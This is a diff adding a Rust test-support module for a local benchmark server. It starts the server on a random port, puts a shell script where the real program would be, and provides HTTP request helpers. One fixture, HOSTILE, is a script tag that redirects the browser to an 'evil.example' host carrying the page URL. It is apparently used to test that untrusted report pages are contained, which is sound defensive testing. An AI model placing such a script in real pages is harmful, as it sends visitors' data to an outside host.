@@ -1,0 +1,251 @@
+//! A server for a test: real, on a port of its own, with a script in the program's place.
+#![allow(dead_code, reason = "each test binary uses a part of it")]
+
+use std::fs;
+use std::io::{Read as _, Write as _};
+use std::net::TcpStream;
+use std::os::unix::fs::PermissionsExt as _;
+use std::path::PathBuf;
+use std::time::{Duration, Instant};
+
+use cryptbench_serve::{Catalogue, Choice, Format, Profile, Server, Site, System};
+
+/// Longest time that anything is waited for; nothing is asserted about how long it takes.
+pub const PATIENCE: Duration = Duration::from_secs(60);
+
+/// What is in the event of a run's end.
+pub const ENDED: &str = "\"event\":\"ended\"";
+
+/// Tells as a run does, until the file `end` is there or SIGINT comes. What it was called with goes to `arguments`, the
+/// order of what it did to `done`. With `die` it is killed; with `heir` it ends and leaves a process behind that holds
+/// its standard error and speaks once `tell` is there; with `slow` a comparison takes as long as that file is there.
+const PROGRAM: &str = r#"#!/bin/sh
+cd "${0%/*}" || exit
+case "$1 $2 $3" in
+"run --progress json")
+    printf '%s\n' "$*" >> arguments
+    echo run >> done
+    trap 'echo "{\"event\":\"saved\",\"directory\":\"/runs/cancelled\"}" >&2; echo interrupted >> told; exit 130' INT
+    echo '{"event":"planned","workloads":[],"arms":[]}' >&2
+    n=0
+    while [ ! -e end ]; do
+        n=$((n + 1))
+        echo "{\"event\":\"trial\",\"n\":$n,\"filler\":\"$(printf %0900d 7)\"}" >&2 || echo "pipe broken" >> told
+        sleep 0.01
+        if [ -e die ]; then kill -9 $$; fi
+        if [ -e heir ]; then
+            rm heir
+            echo '{"event":"saved","directory":"/runs/inherited"}' >&2
+            (while [ -e program ] && [ ! -e tell ]; do sleep 0.01; done; echo 'of the former run' >&2; echo heir >> done) &
+            exit 0
+        fi
+    done
+    echo 'cryptbench: no JSON at all' >&2
+    echo finished >> told
+    exit 0 ;;
+"run --dry-run --json") printf '{"asked":"%s"}' "$*" ;;
+"compare --json --")
+    echo asked >> done
+    while [ -e slow ]; do sleep 0.01; done
+    echo answered >> done
+    printf '{"compared":true}' ;;
+"report --format html")
+    printf '%s\n' "$*" >> asked
+    printf '<h1>rendered</h1>' ;;
+"report --format csv") printf 'a,b\n' ;;
+*) echo "cryptbench: refused for the test" >&2; exit 3 ;;
+esac
+"#;
+
+/// The page that lies beside the record of the run `one`.
+pub const HOSTILE: &str = "<script>location = 'http://evil.example/?' + location.href</script>";
+
+pub struct Place {
+    pub dir: tempfile::TempDir,
+    pub port: u16,
+    pub token: String,
+}
+
+fn catalogue() -> Catalogue {
+    let name = |n: &str| n.to_owned();
+    let system = |n: &str, here: bool| System {
+        name: name(n),
+        about: name("a system"),
+        version: here.then(|| name("1")),
+        reason: (!here).then(|| name("not installed")),
+        remedy: None,
+    };
+    Catalogue {
+        systems: vec![system("builtin", true), system("absent", false)],
+        ciphers: vec![Choice { name: name("aes-256-xts"), label: name("AES-256-XTS") }],
+        profiles: vec![Profile { name: name("quick"), about: name("short"), workloads: 4 }],
+        formats: vec![Format {
+            name: name("csv"),
+            label: name("CSV"),
+            extension: name("csv"),
+            media_type: name("text/csv"),
+            arguments: ["report", "--format", "csv"].map(name).to_vec(),
+        }],
+        ..Catalogue::default()
+    }
+}
+
+impl Place {
+    pub fn new() -> Self {
+        let dir = tempfile::tempdir().unwrap();
+        fs::create_dir_all(dir.path().join("runs/one")).unwrap();
+        fs::create_dir_all(dir.path().join("target")).unwrap();
+        fs::write(dir.path().join("runs/one/record.json"), "{}").unwrap();
+        fs::write(dir.path().join("runs/one/report.html"), HOSTILE).unwrap();
+        fs::write(dir.path().join("secret.json"), "{}").unwrap();
+        let program = dir.path().join("program");
+        fs::write(&program, PROGRAM).unwrap();
+        fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
+        let server = loop {
+            // Any free port: the first that is tried is another test's, perhaps.
+            let port = 20_000 + (std::process::id() as u16 ^ rand()) % 20_000;
+            if let Ok(server) = Server::bind(Some(port)) {
+                break server;
+            }
+        };
+        let address = server.address().to_string();
+        let port = server.address().port();
+        let token = address.trim_end_matches('/').rsplit('/').next().unwrap().to_owned();
+        let site = Site { program, runs: dir.path().join("runs"), catalogue };
+        std::thread::spawn(move || server.run(site, |_| {}, |_| {}));
+        Self { dir, port, token }
+    }
+
+    pub fn connect(&self) -> TcpStream {
+        let stream = TcpStream::connect(("127.0.0.1", self.port)).unwrap();
+        stream.set_read_timeout(Some(PATIENCE)).unwrap();
+        stream.set_write_timeout(Some(PATIENCE)).unwrap();
+        stream
+    }
+
+    pub fn host(&self) -> String {
+        format!("127.0.0.1:{}", self.port)
+    }
+
+    /// The whole answer to raw bytes, until the server closes the connection.
+    pub fn raw(&self, bytes: &[u8]) -> String {
+        let mut stream = self.connect();
+        // The server may have answered and closed before all was sent.
+        let _ = stream.write_all(bytes);
+        let mut answer = Vec::new();
+        let _ = stream.read_to_end(&mut answer);
+        String::from_utf8_lossy(&answer).into_owned()
+    }
+
+    /// A request below the token with these header lines.
+    pub fn ask(&self, method: &str, path: &str, headers: &[&str], body: &str) -> (u16, String) {
+        let mut lines = format!("{method} /{}{path} HTTP/1.1\r\n", self.token);
+        if !headers.iter().any(|h| h.to_ascii_lowercase().starts_with("host:")) {
+            lines += &format!("Host: {}\r\n", self.host());
+        }
+        for header in headers {
+            lines += &format!("{header}\r\n");
+        }
+        lines += &format!("Content-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len());
+        let answer = self.raw(lines.as_bytes());
+        (status(&answer), answer)
+    }
+
+    pub fn get(&self, path: &str) -> (u16, String) {
+        self.ask("GET", path, &[], "")
+    }
+
+    /// A request for a path of the server that is not below the token.
+    pub fn get_outside(&self, path: &str) -> (u16, String) {
+        let host = self.host();
+        let head = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
+        let answer = self.raw(head.as_bytes());
+        (status(&answer), answer)
+    }
+
+    /// The path to which the report of the run `one` is opened, and the answer that says so.
+    pub fn report(&self) -> (String, String) {
+        let (status, answer) = self.get("/runs/one/report.html");
+        assert_eq!(status, 303, "{answer}");
+        let path = answer.lines().find_map(|line| line.strip_prefix("location: ")).unwrap();
+        (path.to_owned(), answer)
+    }
+
+    pub fn post(&self, path: &str, body: &str) -> (u16, String) {
+        self.ask("POST", path, &["Content-Type: application/json"], body)
+    }
+
+    pub fn target(&self) -> PathBuf {
+        self.dir.path().join("target")
+    }
+
+    /// An order that is fine, with this target.
+    pub fn order(&self, target: &std::path::Path) -> String {
+        serde_json::json!({ "target": target, "profile": "quick" }).to_string()
+    }
+
+    /// Starts a run, which is accepted.
+    pub fn start(&self) {
+        let (status, answer) = self.post("/api/run", &self.order(&self.target()));
+        assert_eq!(status, 202, "{answer}");
+    }
+
+    /// Leaves a file beside the program, which does then as [`PROGRAM`] says.
+    pub fn tell(&self, name: &str) {
+        fs::write(self.dir.path().join(name), "").unwrap();
+    }
+
+    /// The events until the run's end.
+    pub fn events_until_ended(&self) -> String {
+        self.events_until(ENDED, None)
+    }
+
+    /// Waits until the file `name` beside the program holds `words`.
+    pub fn wait_for(&self, name: &str, words: &str) -> String {
+        let path = self.dir.path().join(name);
+        wait(|| fs::read_to_string(&path).ok().filter(|text| text.contains(words)))
+    }
+
+    /// The events so far, of a connection of its own: read until `words` came.
+    pub fn events_until(&self, words: &str, last: Option<u64>) -> String {
+        let mut stream = self.connect();
+        let last = last.map(|id| format!("Last-Event-ID: {id}\r\n")).unwrap_or_default();
+        let head = format!(
+            "GET /{}/api/events HTTP/1.1\r\nHost: {}\r\n{last}\r\n",
+            self.token,
+            self.host()
+        );
+        stream.write_all(head.as_bytes()).unwrap();
+        let (mut text, mut part) = (String::new(), [0; 65536]);
+        let begun = Instant::now();
+        while !text.contains(words) {
+            assert!(begun.elapsed() < PATIENCE, "{words:?} does not come: {text:.2000}");
+            let n = stream.read(&mut part).unwrap();
+            assert!(n > 0, "the stream ended: {text:.2000}");
+            text += &String::from_utf8_lossy(&part[..n]);
+        }
+        text
+    }
+}
+
+/// Numbers that differ from test to test; nothing depends on which.
+fn rand() -> u16 {
+    use std::hash::{BuildHasher as _, Hasher as _};
+    std::collections::hash_map::RandomState::new().build_hasher().finish() as u16
+}
+
+pub fn status(answer: &str) -> u16 {
+    answer.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0)
+}
+
+/// What `found` gives once it gives something.
+pub fn wait<T>(found: impl Fn() -> Option<T>) -> T {
+    let begun = Instant::now();
+    loop {
+        if let Some(it) = found() {
+            return it;
+        }
+        assert!(begun.elapsed() < PATIENCE, "it does not happen");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
